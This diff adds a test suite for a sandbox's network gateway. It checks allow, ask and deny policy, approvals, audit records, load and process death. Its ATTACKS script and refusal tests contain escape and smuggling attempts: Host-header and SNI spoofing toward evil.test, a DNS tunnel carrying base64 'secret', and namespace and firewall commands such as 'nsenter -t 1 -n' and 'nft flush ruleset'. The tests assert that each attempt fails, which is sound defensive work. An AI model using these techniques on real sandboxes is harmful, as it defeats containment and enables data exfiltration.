@@ -1,0 +1,576 @@
+"""Network by name: real programs reach real servers by way of the gateway, and nothing else."""
+import hashlib
+import json
+import os
+import pathlib
+import shutil
+import signal
+import subprocess
+import time
+
+from helpers import DEADLINE, NACRE, NacreTest, descendants, wait_until
+from outside import HOST, SERVER, Outside, missing
+
+NAMES = {"a.test": [SERVER], "b.test": [SERVER], "x.ask.test": [SERVER], "private.test": ["10.0.0.7"],
+         "mixed.test": [SERVER, "10.0.0.7"], "own.test": [HOST], "metadata.test": ["169.254.169.254"],
+         "turns.test": [[SERVER], [HOST], [HOST]], "mapped.test": ["::ffff:127.0.0.1"], "loop.test": ["127.0.0.1"]}
+
+POLICY = """profile: net
+inherits: bash
+sandbox:
+  network:
+    allow: [a.test, "a.test:8443", private.test, mixed.test, own.test, metadata.test, turns.test, mapped.test, loop.test,
+            missing.test, "host.nacre:8080"]
+    ask: [b.test, "*.ask.test"]
+    deny: [denied.test]
+"""
+
+
+class NetworkTest(NacreTest):
+    BOXED = True
+    POLICY = POLICY
+
+    def setUp(self):
+        super().setUp()
+        reason = missing()
+        if reason:
+            self.skipTest(reason)
+        os.chmod(self.dir, 0o755)
+        place = self.dir / "outside"
+        place.mkdir()
+        self.outside = Outside(place, NAMES)
+        self.addCleanup(self.outside.close)
+        self.write_config("net.yaml", self.POLICY)
+        self.user = None
+        self.program = NACRE
+
+    def become(self, who):
+        """WHO: root or user. Later calls are his."""
+        self.user, self.program = None, NACRE
+        if who == "user":
+            options = self.as_ordinary_user()
+            self.user, self.program = options["user"], options["program"]
+            for path in (self.config, self.config / "nacre", self.config / "nacre" / "net.yaml"):
+                os.chmod(path, 0o755)
+            self.env["NACRE_STATE_DIR"] = str(self.dir / "state-of-user")
+            (self.dir / "state-of-user").mkdir(0o700, exist_ok=True)
+            os.chown(self.dir / "state-of-user", self.user, self.user)
+
+    def start(self, *args, env=None, **options):
+        options.setdefault("stdin", subprocess.DEVNULL)
+        options.setdefault("stdout", subprocess.PIPE)
+        options.setdefault("stderr", subprocess.PIPE)
+        popen = subprocess.Popen([*self.outside.inside(self.work, self.user), self.program, "run", "--profile", "net", *args],
+                                 env={**self.env, **(env or {})}, **options)
+        self.started.append(popen)
+        return popen
+
+    def nacre(self, *args):
+        return subprocess.run([*self.outside.inside(self.work, self.user), self.program, *args], env=self.env, check=True,
+                              capture_output=True, text=True, timeout=DEADLINE).stdout
+
+    def call(self, line, *options, **more):
+        result = self.run_json(*options, "-c", line, **more)
+        if result["sandbox"]["tier"] == "landlock":
+            self.skipTest("userns: not permitted here")
+        return result
+
+    def says(self, line, *options, **more):
+        result = self.call(line, *options, **more)
+        self.assertEqual(result["exit_code"], 0, result)
+        return result["stdout"]
+
+    def records(self, *kinds):
+        state = pathlib.Path(self.env["NACRE_STATE_DIR"])
+        found = [json.loads(line) for path in sorted((state / "audit").glob("log.*")) for line in path.open()]
+        return [record for record in found if record["event"] in kinds]
+
+
+class Reach(NetworkTest):
+    def test_programs_without_any_proxy_variable(self):
+        cert = self.outside.certificates("a.test")
+        self.outside.web()
+        self.outside.web(443, cert)
+        shutil.copy(self.outside.dir / "ca.pem", self.work / "ca.pem")
+        lines = {"curl": "curl -sS http://a.test/x", "curl-tls": "curl -sS --cacert ca.pem https://a.test/x",
+                 "wget": "wget -qO- http://a.test/x",
+                 "perl": "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(q(a.test:80)); "
+                         "print $s qq(GET /x HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n); print <$s>'",
+                 "python3": "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://a.test/x\").read().decode())'",
+                 "node": "node -e 'fetch(\"http://a.test/x\").then(r => r.text()).then(console.log)'",
+                 "node-tls": "NODE_EXTRA_CA_CERTS=ca.pem node -e 'fetch(\"https://a.test/x\").then(r => r.text()).then(console.log)'"}
+        for who in ("root", "user"):
+            self.become(who)
+            for name, line in lines.items():
+                if not shutil.which(name.split("-")[0]):
+                    continue
+                with self.subTest(who=who, program=name):
+                    self.assertIn("hello a.test /x", self.says(line))
+
+    def test_git_over_http(self):
+        source = self.outside.dir / "site" / "repo"
+        source.mkdir(parents=True)
+        git = {"cwd": source, "check": True, "capture_output": True,
+               "env": {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+                       "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(self.outside.dir)}}
+        for words in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "first"], ["update-server-info"]):
+            subprocess.run(["git", *words], **git)
+        self.outside.serve("import functools, http.server as h\n"
+                           f"s = h.ThreadingHTTPServer(('', 80), functools.partial(h.SimpleHTTPRequestHandler, "
+                           f"directory={str(source.parent)!r}))\nprint('ready', flush=True)\ns.serve_forever()")
+        self.assertIn("first", self.says("git clone -q http://a.test/repo/.git got && git -C got log --oneline"))
+
+    def test_kept_boxes_and_sessions(self):
+        self.outside.web()
+        for who in ("root", "user"):
+            self.become(who)
+            for session in (None, "s"):
+                requests = "".join(json.dumps({"command": f"curl -sS http://a.test/{i}", **({"session": session} if session else {})})
+                                   + "\n" for i in range(8))
+                done = self.run_nacre("--batch", input=requests.encode())
+                results = [json.loads(line)["result"] for line in done.out.splitlines()]
+                with self.subTest(who=who, session=session):
+                    self.assertEqual(sorted(r["stdout"] for r in results), [f"hello a.test /{i}\n" for i in range(8)])
+
+    def test_calls_of_a_session_share_loopback_and_gateway(self):
+        self.outside.web()
+        for who in ("root", "user"):
+            self.become(who)
+            with self.subTest(who=who):
+                task = self.call("python3 -m http.server 8000", "--session", "s", "--background")["task_id"]
+                wait_until("the server answers", lambda: self.call("curl -sS http://127.0.0.1:8000/", "--session", "s")
+                           ["exit_code"] == 0)
+                self.assertIn("hello", self.says("curl -sS http://a.test/", "--session", "s"))
+                self.assertNotEqual(self.call("curl -sS http://127.0.0.1:8000/", "--session", "other")["exit_code"], 0)
+                self.nacre("stop", task)
+
+    def test_a_command_without_network_starts_no_gateway(self):
+        result = self.call("ls")
+        self.assertEqual(result["network"], {"connections": 0, "refused_count": 0, "refused": []})
+        self.assertEqual(self.records("network", "network-ended"), [])
+
+    def test_resolver_files_are_the_box_own(self):
+        text = self.says("cat /etc/resolv.conf /etc/hosts; ls /sys/class/net")
+        self.assertIn("nameserver 198.18.0.2", text)
+        self.assertNotIn(SERVER, text)
+
+    def test_services_of_the_host_by_exact_entry(self):
+        self.outside.web(8080, near=True)
+        self.assertIn("hello host.nacre", self.says("curl -sS http://host.nacre:8080/"))
+        refused = self.call("curl -sS http://host.nacre:8081/")["network"]["refused"]
+        self.assertEqual([(r["name"], r["port"], r["reason"]) for r in refused], [("host.nacre", 8081, "port")])
+
+
+class Via(NetworkTest):
+    """A proxy above: names go up by CONNECT, and nothing is looked up here."""
+    POLICY = POLICY + f"    via: http://{SERVER}:3128\n"
+
+    def test_names_go_up(self):
+        self.outside.web()
+        self.outside.serve("import socket, threading\ndef one(c):\n    h = b''\n    while b'\\r\\n\\r\\n' not in h: h += c.recv(4096)\n"
+                           "    n, p = h.split()[1].decode().split(':'); u = socket.create_connection(('127.0.0.1', int(p)))\n"
+                           "    c.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n    def pump(a, b):\n        while (d := a.recv(4096)): b.sendall(d)\n        b.shutdown(1)\n"
+                           "    threading.Thread(target=pump, args=(u, c)).start(); pump(c, u)\n"
+                           "s = socket.create_server(('', 3128))\nprint('ready', flush=True)\n"
+                           "while True: threading.Thread(target=one, args=(s.accept()[0],), daemon=True).start()")
+        self.assertEqual(self.says("curl -sS --max-time 20 http://a.test/up"), "hello a.test /up\n")
+        self.assertEqual(self.outside.asked(), [])
+
+    def test_the_environment_is_not_taken_and_nothing_goes_another_way(self):
+        self.write_config("net.yaml", POLICY + "    via: environment\n")
+        self.outside.web()
+        result = self.call("curl -sS --max-time 20 http://a.test/")
+        self.assertNotIn("hello", result["stdout"])
+        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["unreachable"], result)
+
+
+class Refuse(NetworkTest):
+    def refused(self, line, *options):
+        return [(r["name"], r["port"], r["reason"]) for r in self.call(line, *options)["network"]["refused"]]
+
+    def test_names_ports_and_addresses(self):
+        self.outside.web()
+        rows = [("http://other.test/", "other.test", None, "not-allowed"), ("http://denied.test/", "denied.test", None, "denied"),
+                ("http://a.test:81/", "a.test", 81, "port"), (f"http://{SERVER}/", SERVER, 80, "address"),
+                ("http://10.1.2.3/", "10.1.2.3", 80, "address"), (f"http://{HOST}:22/", HOST, 22, "address"),
+                ("http://[2001:db8::1]/", "2001:db8::1", 80, "address")]
+        for url, name, port, reason in rows:
+            with self.subTest(url=url):
+                self.assertEqual(self.refused(f"curl -sS --max-time 20 {url}"), [(name, port, reason)])
+        self.assertNotIn("other.test", self.outside.asked())
+        self.assertNotIn("denied.test", self.outside.asked())
+
+    def test_names_that_lead_where_they_must_not(self):
+        self.outside.web(near=True)  # the machine's own service must not be reached either
+        for name in ("private", "mixed", "own", "metadata", "mapped", "loop"):
+            with self.subTest(name=name):
+                self.assertEqual(self.refused(f"curl -sS --max-time 20 http://{name}.test/"), [(f"{name}.test", 80, "private")])
+
+    def test_an_answer_that_changes_is_judged_each_time(self):
+        self.outside.web()
+        self.outside.web(near=True)
+        result = self.call("curl -sS --max-time 20 http://turns.test/")
+        # The look-up of the program is the first answer; what is dialled is judged by its own.
+        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["private"])
+        self.assertNotIn("hello", result["stdout"])
+
+    def test_clients_are_told_in_their_own_language(self):
+        cert = self.outside.certificates("a.test")
+        self.outside.web(443, cert)
+        result = self.call("curl -sS --max-time 20 -k https://a.test:8444/")
+        self.assertIn("access denied", result["stderr"].lower(), result)
+        result = self.call("curl -sS --max-time 20 -i http://a.test:81/")
+        self.assertIn("403", result["stdout"], result)
+        self.assertTrue(any("a.test:81 was refused" in n and "sandbox.network.allow" in n for n in result["notices"]), result)
+
+    def test_another_server_name_or_host_is_refused(self):
+        cert = self.outside.certificates("a.test", "evil.test")
+        self.outside.web()
+        self.outside.web(443, cert)
+        self.assertEqual(self.refused("curl -sSk --max-time 20 --connect-to evil.test:443:a.test:443 https://evil.test/"),
+                         [("a.test", 443, "sni")])
+        self.assertEqual(self.refused("curl -sS --max-time 20 -H 'Host: evil.test' http://a.test/"), [("a.test", 80, "host")])
+        self.assertEqual(self.refused("curl -sS --max-time 20 -p -x http://a.test:80 http://evil.test/"), [("a.test", 80, "proxy")])
+
+    def test_other_protocols_end_at_once(self):
+        text = self.says("python3 - <<'E'\nimport socket, errno\n"
+                         "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
+                         "a = socket.gethostbyname('a.test'); s.connect((a, 443)); s.send(b'x')\n"
+                         "try: s.recv(1); print('answer')\nexcept OSError as e: print(errno.errorcode.get(e.errno, e))\nE")
+        self.assertEqual(text, "ECONNREFUSED\n")
+
+    def test_names_of_any_server_are_answered_by_the_gateway(self):
+        text = self.says("python3 - <<'E'\nimport socket, struct\n"
+                         "def ask(name, tcp, to):\n"
+                         "    q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'\n"
+                         "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(10)\n"
+                         "    s.connect((to, 53)); s.send((struct.pack('>H', len(q)) if tcp else b'') + q)\n"
+                         "    d = s.recv(600)[2 if tcp else 0:]; return d[3] & 15, d[-4:-2].hex()\n"
+                         "for tcp in (0, 1):\n    print(ask('a.test', tcp, '8.8.8.8'), ask('other.test', tcp, '8.8.8.8')[0])\nE")
+        rows = text.split("\n")
+        for row in rows[:2]:
+            self.assertRegex(row, r"^\(0, 'c61[23]'\) 3$", text)
+
+    def test_audit_has_each_connection_and_its_end(self):
+        self.outside.web()
+        self.call("curl -sS http://a.test/; curl -sS http://other.test/; curl -sS http://other.test/")
+        dialled, refused = self.records("network")
+        self.assertEqual((dialled["name"], dialled["port"], dialled["verdict"], dialled["address"], dialled["rule"]["id"]),
+                         ("a.test", 80, "allow", SERVER, "a.test"))
+        self.assertEqual((refused["name"], refused["verdict"], refused["reason"]), ("other.test", "deny", "not-allowed"))
+        [ended] = self.records("network-ended")
+        self.assertEqual((ended["name"], ended["protocol"], ended["end"]), ("a.test", "http", "closed"))
+        self.assertEqual(dialled["task_id"], ended["task_id"])
+        self.assertGreater(ended["received"], 10)
+
+    def test_what_cannot_be_recorded_is_not_dialled(self):
+        self.outside.web()
+        log = pathlib.Path(self.env["NACRE_STATE_DIR"]) / "audit"
+        popen = self.start("--json", "-c", "touch began; while [ ! -e go ]; do sleep 0.05; done; curl -sS --max-time 20 http://a.test/")
+        wait_until("it runs", lambda: (self.work / "began").exists())
+        shutil.move(log, self.dir / "moved")
+        log.write_text("in the way")
+        (self.work / "go").touch()
+        result = json.loads(self.finish(popen).out)
+        self.assertNotIn("hello", result["stdout"])
+        self.assertEqual(result["network"]["connections"], 0, result)
+
+
+class Ask(NetworkTest):
+    def ids(self):
+        found = json.loads(self.nacre("approvals", "--json"))
+        return [a["id"] for a in (found["approvals"] if isinstance(found, dict) else found)]
+
+    def test_nobody_to_wait_for_is_refused_at_once_and_the_retry_goes_through(self):
+        self.outside.web()
+        result = self.call("curl -sS --max-time 20 http://b.test/")
+        [refused] = result["network"]["refused"]
+        self.assertEqual((refused["name"], refused["reason"]), ("b.test", "person"))
+        [approval] = self.ids()
+        self.assertTrue(any(f"nacre approve {approval}" in n for n in result["notices"]), result)
+        self.assertNotIn("b.test", self.outside.asked(), "nothing leaves before a person said yes")
+        self.nacre("approve", approval)
+        self.assertIn("hello b.test", self.says("curl -sS --max-time 20 http://b.test/"))
+        self.assertIn("b.test", self.outside.asked())
+        self.assertEqual(self.call("curl -sS --max-time 20 http://b.test/")["network"]["refused"][0]["reason"], "person")
+
+    def test_held_connections_go_on_with_the_answer_and_the_clock_stands(self):
+        self.outside.web()
+        popen = self.start("--json", "--session", "s", "--timeout", "2s", "--approval-timeout", "60s", "-c",
+                           "curl -sS http://x.ask.test/1 & curl -sS http://x.ask.test/2 & wait")
+        [approval] = wait_until("one question for both", self.ids)
+        time.sleep(3)  # longer than the command's own limit
+        self.assertIsNone(popen.poll())
+        self.assertNotIn("x.ask.test", self.outside.asked())
+        self.nacre("approve", approval, "--session")
+        result = json.loads(self.finish(popen).out)
+        self.assertEqual(sorted(result["stdout"].split("\n")), ["", "hello x.ask.test /1", "hello x.ask.test /2"], result)
+        self.assertFalse(result["timed_out"])
+        self.assertIn("hello", self.says("curl -sS http://x.ask.test/3", "--session", "s"))
+        self.assertEqual(self.call("curl -sS http://x.ask.test/4", "--session", "t")["network"]["refused"][0]["reason"], "person")
+        self.assertGreater(self.records("network")[0]["waited_ms"], 2000)
+
+    def test_a_no_and_no_answer(self):
+        self.outside.web()
+        popen = self.start("--json", "--approval-timeout", "60s", "-c", "curl -sS http://x.ask.test/")
+        [approval] = wait_until("the question", self.ids)
+        self.nacre("deny", approval)
+        result = json.loads(self.finish(popen).out)
+        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["person"], result)
+        result = self.call("curl -sS http://x.ask.test/", "--approval-timeout", "1s")
+        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["timeout"], result)
+        self.assertNotIn("x.ask.test", self.outside.asked())
+
+    def test_a_program_that_did_not_wait_is_told(self):
+        self.outside.web()
+        popen = self.start("--json", "--approval-timeout", "60s", "-c",
+                           "curl -sS --max-time 1 http://x.ask.test/; while [ ! -e go ]; do sleep 0.05; done; curl -sS http://x.ask.test/2")
+        [approval] = wait_until("the question", self.ids)
+        time.sleep(2)
+        self.nacre("approve", approval)
+        (self.work / "go").touch()
+        result = json.loads(self.finish(popen).out)
+        self.assertIn("hello x.ask.test /2", result["stdout"])
+
+    def test_a_profile_that_asks_nobody(self):
+        self.write_config("net.yaml", POLICY + "approval: {answer: deny}\n")
+        result = self.call("curl -sS --max-time 20 http://b.test/", "--approval-timeout", "60s")
+        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["person"], result)
+        self.assertEqual(self.ids(), [])
+
+
+class Load(NetworkTest):
+    def test_large_uploads_and_downloads_arrive_whole(self):
+        self.outside.web()
+        self.give_up_after(10 * DEADLINE)
+        size = 256 << 20
+        sent = self.says(f"head -c {size} /dev/zero | tr '\\0' 'n' >blob; sha256sum <blob; curl -sS -T blob http://a.test/up", "--timeout", "5m").split("\n")
+        self.assertEqual(sent[0].split()[0], sent[1], sent)
+        block = bytes(range(256)) * 256
+        digest = hashlib.sha256()
+        for _ in range(size // len(block)):
+            digest.update(block)
+        got = self.says(f"curl -sS http://a.test/big{size} | sha256sum", "--timeout", "5m")
+        self.assertEqual(got.split()[0], digest.hexdigest())
+
+    def test_resets_at_random_do_not_touch_others(self):
+        """A pipe that was given back with bytes in it put them into another connection."""
+        self.outside.web()
+        self.give_up_after(10 * DEADLINE)
+        (self.work / "mix.py").write_text(
+            "import hashlib, random, socket, struct, threading\n"
+            "block = bytes(range(256)) * 256\nwanted = hashlib.sha256(block * 16).hexdigest()\n"
+            "address, bad, lock = socket.gethostbyname('a.test'), [], threading.Lock()\n"
+            "def get(n):\n"
+            "    s = socket.create_connection((address, 80)); s.settimeout(120)\n"
+            "    s.sendall(b'GET /big1048576 HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n'); return s\n"
+            "def whole(n):\n"
+            "    s, data = get(n), b''\n"
+            "    while True:\n        part = s.recv(65536)\n        if not part: break\n        data += part\n"
+            "    body = data.split(b'\\r\\n\\r\\n', 1)[1]\n"
+            "    if hashlib.sha256(body).hexdigest() != wanted:\n        with lock: bad.append((n, len(body)))\n"
+            "def reset(n):\n"
+            "    s = get(n); s.recv(random.randrange(1, 200000))\n"
+            "    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close()\n"
+            "for turn in range(10):\n"
+            "    ts = [threading.Thread(target=f, args=(i,)) for i in range(20) for f in (whole, reset)]\n"
+            "    [t.start() for t in ts]; [t.join() for t in ts]\n"
+            "print(bad)\n")
+        self.assertEqual(self.says("python3 mix.py", "--timeout", "5m"), "[]\n")
+
+    def test_many_short_connections_leave_no_descriptor(self):
+        self.outside.serve("import socket, sys\ns = socket.create_server(('', 80), backlog=512)\nprint('ready', flush=True)\n"
+                           "while True:\n    c, _ = s.accept(); c.sendall(b'k'); c.close()\n")
+        self.give_up_after(10 * DEADLINE)
+        (self.work / "many.py").write_text(
+            "import os, socket, sys, time\naddress = socket.gethostbyname('a.test')\n"
+            "def some(n):\n"
+            "    for _ in range(n):\n        with socket.create_connection((address, 80)) as s:\n            assert s.recv(9) == b'k'\n"
+            "some(50); open('warm', 'w').close()\n"
+            "while not os.path.exists('go'): time.sleep(0.05)\n"
+            "some(3000); open('over', 'w').close()\n"
+            "while not os.path.exists('end'): time.sleep(0.05)\n")
+        popen = self.start("--json", "--timeout", "10m", "-c", "python3 many.py")
+        wait_until("it is warm", lambda: (self.work / "warm").exists(), 3 * DEADLINE)
+        def count():
+            [gateway] = [p for p in descendants() if p.name == "nacre-gateway"]
+            return len(os.listdir(f"/proc/{gateway.pid}/fd"))
+        before = wait_until("all are closed", count)
+        (self.work / "go").touch()
+        wait_until("it is over", lambda: (self.work / "over").exists(), 20 * DEADLINE)
+        wait_until(f"as few descriptors as before, {before}", lambda: count() <= before + 2)
+        (self.work / "end").touch()
+        result = json.loads(self.finish(popen).out)
+        self.assertEqual((result["exit_code"], result["network"]["connections"]), (0, 3050), result)
+
+
+class Death(NetworkTest):
+    """Each process is killed in turn: nothing hangs, and nothing is reached by another way."""
+
+    def running(self):
+        popen = self.start("--json", "--timeout", "2m", "-c",
+                           "curl -sS http://a.test/1; touch began; while [ ! -e go ]; do sleep 0.05; done; curl -sS --max-time 30 http://a.test/2")
+        wait_until("it runs", lambda: (self.work / "began").exists(), 2 * DEADLINE)
+        return popen
+
+    def kill(self, name):
+        [process] = [p for p in descendants() if p.name == name]
+        os.kill(process.pid, signal.SIGKILL)
+
+    def test_another_gateway_or_gate_goes_on(self):
+        self.outside.web()
+        for name in ("nacre-gateway", "nacre-gate"):
+            for mark in ("began", "go"):
+                (self.work / mark).unlink(missing_ok=True)
+            with self.subTest(killed=name):
+                popen = self.running()
+                self.kill(name)
+                (self.work / "go").touch()
+                result = json.loads(self.finish(popen).out)
+                self.assertEqual(result["stdout"], "hello a.test /1\nhello a.test /2\n", result)
+
+    def test_a_connection_of_a_gateway_that_dies_has_an_end(self):
+        self.outside.serve("import socket, time\ns = socket.create_server(('', 80))\nprint('ready', flush=True)\nkeep = []\n"
+                           "while True:\n    c, _ = s.accept(); keep.append(c); c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 9\\r\\n\\r\\nx')\n")
+        popen = self.start("--json", "--timeout", "2m", "-c", "curl -sSN http://a.test/ >part; echo $?")
+        wait_until("it is connected", lambda: (self.work / "part").exists() and (self.work / "part").stat().st_size > 0, 2 * DEADLINE)
+        self.kill("nacre-gateway")
+        result = json.loads(self.finish(popen).out)
+        self.assertIn(result["stdout"], ("56\n", "18\n"), result)
+        self.assertEqual(len(self.records("network")), len(self.records("network-ended")))
+
+    def test_everything_ends_with_the_keeper(self):
+        self.outside.web()
+        popen = self.running()
+        self.kill("nacre-keeper")
+        self.finish(popen)
+        wait_until("gate and gateway have ended", lambda: not [p for p in descendants() if p.name.startswith("nacre-g")])
+
+
+ATTACKS = r"""
+import errno, json, os, socket, struct, subprocess, sys, time
+result = {}
+def quick(*address, family=socket.AF_INET, kind=socket.SOCK_STREAM, data=b"GET / HTTP/1.0\r\n\r\n", options=()):
+    s = socket.socket(family, kind); s.settimeout(10)
+    for option in options: s.setsockopt(*option)
+    s.connect(address); s.sendall(data)
+    got = b""
+    while True:
+        part = s.recv(4096)
+        if not part or kind == socket.SOCK_DGRAM: return (got + part).decode("latin1")
+        got += part
+def attempt(name, f):
+    try: result[name] = f()
+    except OSError as e: result[name] = errno.errorcode.get(e.errno, str(e))
+def words(*line):
+    done = subprocess.run(line, capture_output=True, text=True)
+    return "ok" if done.returncode == 0 else "failed"
+host = sys.argv[1]
+attempt("loopback", lambda: quick("127.0.0.1", 8088))
+attempt("literal", lambda: quick(host, 8088))
+attempt("any", lambda: quick("0.0.0.0", 8088))
+attempt("mapped", lambda: quick("::ffff:" + host, 8088, family=socket.AF_INET6))
+attempt("never-given", lambda: quick("198.19.77.77", 80))
+attempt("gate", lambda: quick("198.18.0.1", 1))
+attempt("udp", lambda: quick(host, 8089, kind=socket.SOCK_DGRAM))
+attempt("quic", lambda: quick(socket.gethostbyname("a.test"), 443, kind=socket.SOCK_DGRAM))
+attempt("transparent", lambda: quick(host, 8088, options=[(socket.SOL_IP, 19, 1)]))
+attempt("mark", lambda: quick(host, 8088, options=[(socket.SOL_SOCKET, 36, 1)]))
+attempt("fast-open", lambda: socket.socket().sendto(b"GET /", 0x20000000, (host, 8088)) and "sent")
+for name, line in {"lo-down": "ip link set lo down", "routes": "ip route flush table local", "route": "ip route add default dev lo",
+                   "address": "ip addr add 10.9.9.9/8 dev lo", "nft": "nft flush ruleset", "own-net": "unshare -n true",
+                   "own-user": "unshare -Un true", "setns": "nsenter -t 1 -n true"}.items():
+    attempt(name, lambda: words(*line.split()))
+result["descriptors"] = sorted(int(n) for n in os.listdir("/proc/self/fd"))[:-1]
+def raw(labels, tail=b"\0\0\1\0\1", count=1, pointer=b"", kind=None):
+    q = struct.pack(">6H", 7, 256, count, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + pointer + tail
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("198.18.0.2", 53))
+    try: return s.recv(1500)[3] & 15
+    except TimeoutError: return "nothing"
+attempt("nul", lambda: raw([b"evil\0", b"a", b"test"]))
+attempt("dot", lambda: raw([b"evil.a", b"test"]))
+attempt("number", lambda: raw([b"0x7f000001"]))
+attempt("dotted", lambda: raw([b"127", b"0", b"0", b"1"]))
+attempt("pointer", lambda: raw([], pointer=b"\xc0\x0c", tail=b"\0\1\0\1"))
+attempt("two", lambda: raw([b"a", b"test"], count=2, tail=b"\0\0\1\0\1\1b\4test\0\0\1\0\1"))
+attempt("tunnel", lambda: raw([b"c2VjcmV0", b"evil", b"test"], tail=b"\0\0\x10\0\1"))
+to = socket.gethostbyname("a.test")
+def slow(data):
+    s = socket.socket(); s.settimeout(10); s.connect((to, 80)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for i in range(len(data)): s.send(data[i:i + 1]); time.sleep(0.002)
+    return s.recv(4096).decode("latin1")
+attempt("host-slow", lambda: slow(b"GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
+attempt("host-empty-line", lambda: quick(to, 80, data=b"\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
+attempt("host-lower", lambda: quick(to, 80, data=b"get /evil http/1.1\nhost: evil.test\n\n"))
+attempt("host-two", lambda: quick(to, 80, data=b"GET /evil HTTP/1.1\r\nHost: a.test\r\nHost: evil.test\r\n\r\n"))
+attempt("absolute", lambda: quick(to, 80, data=b"GET http://evil.test/evil HTTP/1.1\r\nHost: a.test\r\n\r\n"))
+attempt("connect", lambda: quick(to, 80, data=b"CONNECT evil.test:443 HTTP/1.1\r\nHost: a.test\r\n\r\n"))
+attempt("socks", lambda: quick(to, 80, data=b"\5\1\0"))
+print(json.dumps(result))
+"""
+
+
+class Attempts(NetworkTest):
+    """What was tried against the gateway. The services were reached from outside of the box first."""
+
+    def test_attempts(self):
+        self.outside.web(8088, near=True)
+        self.outside.serve("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 8089))\n"
+                           "print('ready', flush=True)\nwhile True: s.sendto(b'hello udp', s.recvfrom(99)[1])", near=True)
+        seen = self.dir / "seen"
+        self.outside.serve("import socket, sys, threading\nlog = open(sys.argv[1], 'ab', buffering=0)\n"
+                           "def one(c):\n    try:\n        while True:\n            d = c.recv(4096)\n            if not d: return\n"
+                           "            log.write(d)\n            if b'\\n\\n' in d or b'\\r\\n\\r\\n' in d: c.sendall(b'hello evil'); return\n"
+                           "    except OSError: pass\n    finally: c.close()\n"
+                           "s = socket.create_server(('', 80))\nprint('ready', flush=True)\n"
+                           "while True: threading.Thread(target=one, args=(s.accept()[0],), daemon=True).start()", str(seen))
+        (self.work / "attacks.py").write_text(ATTACKS)
+        control = subprocess.run([*self.outside.inside(), "curl", "-sS", f"http://{HOST}:8088/", f"http://127.0.0.1:8088/"],
+                                 capture_output=True, text=True, timeout=DEADLINE).stdout
+        self.assertEqual(control.count("hello"), 2, "the control")
+        for who in ("root", "user"):
+            self.become(who)
+            result = json.loads(self.says(f"python3 attacks.py {HOST}", "--timeout", "3m"))
+            for name, outcome in result.items():
+                with self.subTest(who=who, attempt=name):
+                    if name == "descriptors":
+                        self.assertLessEqual(set(outcome), {0, 1, 2, 3, 252}, outcome)
+                    elif name in ("nul", "dot", "number", "dotted", "pointer", "two", "tunnel"):
+                        self.assertIn(outcome, (1, 3, 4, 5, "nothing"))
+                    else:
+                        self.assertNotIn("hello", outcome)
+                        self.assertNotEqual(outcome, "ok")
+        self.assertNotIn(b"evil.test\r\n\r\n", seen.read_bytes() if seen.exists() else b"")
+        self.assertNotIn(b"evil.test\n\n", seen.read_bytes() if seen.exists() else b"")
+        self.assertEqual({name for name in self.outside.asked()}, {"a.test"}, "nothing else has left")
+
+    def test_floods(self):
+        self.outside.web()
+        (self.work / "flood.py").write_text(
+            "import resource, socket\nfor i in range(4200):\n    try: socket.gethostbyname(f'n{i}.ask.test')\n    except OSError: pass\n"
+            "a = socket.gethostbyname('a.test'); most = []\n"
+            "soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE); resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\n"
+            "try:\n    for i in range(900):\n        s = socket.socket(); s.settimeout(20); s.connect((a, 80)); most.append(s)\n"
+            "except OSError as e: print(e)\n"
+            "s = socket.create_connection((a, 80)); s.sendall(b'GET /alive HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n'); print(s.recv(4096)[:15])\n")
+        # a.test has its address before the flood of names fills the table
+        result = self.call("curl -sS http://a.test/ && python3 flood.py; curl -sS --max-time 30 http://a.test/after", "--timeout", "3m")
+        self.assertIn("HTTP/1.1 200 OK", result["stdout"], result)
+        self.assertIn("hello a.test /after", result["stdout"], result)
+        self.assertIn("limit", [r["reason"] for r in result["network"]["refused"]], result)
+
+
+class Elsewhere(NetworkTest):
+    def test_without_namespaces_there_is_no_network_and_it_is_said(self):
+        self.write_config("net.yaml", POLICY.replace("sandbox:\n", "sandbox:\n  mode: landlock\n"))
+        self.outside.web()
+        result = self.run_json("-c", f"curl -sS --max-time 5 http://{SERVER}/; curl -sS --max-time 5 http://a.test/")
+        self.assertNotIn("hello", result["stdout"])
+        self.assertIn("network-names", result["sandbox"]["missing"], result)
+        self.assertIsNone(result["network"])
+        self.assertTrue(any("had no network" in n for n in result["notices"]), result)
+        self.write_config("net.yaml", POLICY.replace("sandbox:\n", "sandbox:\n  mode: landlock\n  require: [network-names]\n"))
+        self.assertEqual(self.run_json("-c", "true")["exit_code"], 125)
+
+    def test_doctor_names_the_way(self):
+        self.assertIn(json.loads(self.nacre("doctor", "--json"))["network_names"], ("tproxy", "redirect", "ports"))
